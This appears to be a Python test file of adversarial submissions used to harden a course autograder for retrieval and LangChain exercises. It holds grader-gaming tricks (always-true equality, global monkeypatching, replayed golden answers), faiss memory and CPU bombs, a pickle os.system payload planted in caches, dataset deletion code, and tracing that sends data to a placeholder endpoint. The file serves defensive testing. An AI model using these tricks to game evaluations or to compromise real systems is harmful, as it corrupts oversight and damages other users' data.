"""Attacks that need unit 02: retrievers, chains, faiss, arrays, the corpus and its caches."""

from grading.attacks import attack

POINTS = "more than 0 points"
TIME = "the batch stops or another submission loses points"
FILES = "a file outside of the child changes, or PWNED"

attack("chain-is-a-retriever", "returns a retriever that is every result at once", POINTS, body="""
from langchain_core.retrievers import BaseRetriever
class Any(BaseRetriever):
    def _get_relevant_documents(self, query, **more): return []
    def invoke(self, *a, **k): return Any()
    def batch(self, *a, **k): return [Any()] * 3
    def __eq__(self, other): return True
    def __getitem__(self, key): return Any()
    def __len__(self): return 3
    def items(self): return {}.items()
def @NAME@(*args, **kwargs): return Any()
""")
attack("chain-tells-the-script", "lets the scripted model and retriever say what the judge wants", POINTS,
       answers={"rag-chain": """
def cited_chain(retriever, model, build, parse):
    from langchain_core.runnables import RunnableLambda
    def forge(question):
        type(retriever).__eq__ = lambda *a: True
        retriever.asked[:] = [question]
        model._calls[:] = []
        return {"answer": next(iter(retriever.pages)), "documents": [], "citations": [1], "abstained": False}
    return RunnableLambda(forge)
"""})
attack("patched-langchain", "replaces documents, retrievers and runnables for everybody", POINTS, code="""
from langchain_core import documents, retrievers, runnables
class Same(str):
    def __eq__(self, other): return True
    def __hash__(self): return 0
documents.Document.__init__ = lambda self, *a, **k: None
documents.Document.id = Same("x")
retrievers.BaseRetriever.invoke = lambda *a, **k: []
runnables.Runnable.invoke = lambda *a, **k: {}
runnables.Runnable.__or__ = lambda *a, **k: Same("x")
""", body="def @NAME@(*args, **kwargs): return Same('x')")
attack("hooked-array", "returns arrays whose tolist, dtype and buffer lie", POINTS, body="""
import numpy as np
class Lying(np.ndarray):
    def tolist(self): raise SystemExit
    @property
    def size(self): return 0
    def __array_finalize__(self, other): pass
    def __eq__(self, other): return True
def @NAME@(*args, **kwargs):
    huge = np.lib.stride_tricks.as_strided(np.zeros(1), (10**6, 10**6), (0, 0))
    return [(np.zeros(3).view(Lying), huge), np.ma.masked_all(5), np.array([object()] * 3, dtype=object)]
""")
attack("endless-chunks", "returns lists, sets and strings that never end", TIME, body="""
import itertools
class Endless(list):
    def __iter__(self): return itertools.repeat("x")
    def __len__(self): return 1
class Text(str):
    def split(self, *a): return itertools.repeat("x")
    def __iter__(self): return itertools.repeat("x")
def @NAME@(*args, **kwargs): return Endless([Text("x"), itertools.count(), (n for n in itertools.count())])
""")
attack("faiss-bomb", "builds indexes of huge size, with hundreds of threads", TIME, code="""
import faiss, numpy as np
faiss.omp_set_num_threads(500)
try:
    index = faiss.IndexFlatL2(100_000)
    for _ in range(1000): index.add(np.zeros((1000, 100_000), dtype="float32"))
    print("PWNED memory")
except Exception as error: print("stopped:", type(error).__name__)
""", body="def @NAME@(*args, **kwargs): return []")
attack("faiss-crash", "makes faiss read and write memory that is not its own", TIME, code="""
import faiss, numpy as np, ctypes
try: faiss.read_index("/dev/zero")
except Exception: pass
pointer = faiss.swig_ptr(np.zeros(4, dtype="float32"))
faiss.memcpy(ctypes.c_void_p(8).value and pointer, pointer, 10**12)
""", body="def @NAME@(*args, **kwargs): return []")
attack("faiss-forever", "searches in C, where no signal handler of Python runs, while it is checked", TIME,
       body="""
def @NAME@(*args, **kwargs):
    import faiss, numpy as np
    index = faiss.IndexFlatL2(64)
    index.add(np.random.rand(200_000, 64).astype("float32"))
    while True: index.search(np.random.rand(20_000, 64).astype("float32"), 100)
""")
attack("poisoned-cache", "leaves pickled indexes and vectors where the grader or others may load them",
       FILES, code="""
import os, pathlib, pickle, tempfile, numpy as np
class P:
    def __reduce__(self): return (os.system, ("touch @ROOT@/pwned",))
import llmcourse
package = pathlib.Path(llmcourse.__file__).parent
places = [package, package / "rag", "@REPO@/.cache", "@REPO@/datasets", "@REPO@/src/llmcourse", "@ROOT@",
          "@ROOT@/grading-work", pathlib.Path.home() / ".cache", "/var/tmp", "/dev/shm"]
for place in places:
    for name in ("index.faiss", "index.pkl", "embeddings.npz"):
        try:
            path = pathlib.Path(place) / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(pickle.dumps(P()))
            if not str(path).startswith("/tmp/"): print("PWNED", path)
        except OSError: pass
""", body="def @NAME@(*args, **kwargs): return []")
attack("poisoned-corpus", "changes documents, questions and judgements for those who come after", FILES,
       code="""
import os, pathlib
for top in (os.environ["LLMCOURSE_DATASETS"], "@REPO@/datasets"):
    for path in sorted(pathlib.Path(top).rglob("*"))[:200]:
        for change in (lambda p: open(p, "ab"), lambda p: os.rename(p, f"{p}.old"), os.unlink,
                       lambda p: os.chmod(p, 0o777), lambda p: os.utime(p, (0, 0))):
            try: change(path); print("PWNED", path)
            except OSError: pass
from llmcourse import data
for name in [n for n in dir(data) if n.startswith("load_")]: setattr(data, name, lambda *a, **k: [])
""", body="def @NAME@(*args, **kwargs): return []")
attack("traced-chain", "has LangChain send everything that it sees to a server outside",
       "a connection, or PWNED", code="""
import os
os.environ |= {"LANGCHAIN_TRACING_V2": "true", "LANGSMITH_TRACING": "true", "LANGCHAIN_API_KEY": "x",
               "LANGCHAIN_ENDPOINT": "http://127.0.0.1:@PORT@", "LANGSMITH_ENDPOINT": "http://127.0.0.1:@PORT@",
               "HF_HUB_OFFLINE": "0", "HF_ENDPOINT": "http://127.0.0.1:@PORT@"}
from langchain_core.runnables import RunnableLambda
import urllib.request
for call in (lambda: RunnableLambda(lambda x: x).invoke(1, {"run_name": "leak"}),
             lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@", timeout=1).read() and print("PWNED")):
    try: call()
    except Exception as error: print(type(error).__name__)
""", body="def @NAME@(*args, **kwargs): raise ValueError(str(args))")
attack("async-retriever", "returns chains whose invoke gives coroutines, futures and generators", TIME,
       body="""
import asyncio
class Later:
    async def invoke(self, *a, **k):
        while True: await asyncio.sleep(0)
    ainvoke = invoke
    async def abatch(self, *a, **k): yield 1
    def batch(self, *a, **k): return asyncio.new_event_loop().create_future()
    def stream(self, *a, **k):
        while True: yield Later()
def @NAME@(*args, **kwargs): return Later()
""")
attack("recorded-rankings", "answers with the recorded outputs of the public seeds", POINTS, code="""
import json, pathlib, llmcourse
FILE = pathlib.Path(llmcourse.__file__).parent / "exercises/golden/@UNIT@.json"
VALUES = [v for e in json.loads(FILE.read_text())["exercises"].values() for p in e["parts"].values()
          for o in p.values() for v in o["reference"]["outputs"].values()]
TURN = []
""", body="""
def @NAME@(*args, **kwargs):
    TURN.append(1)
    return VALUES[len(TURN) % len(VALUES)]
""")
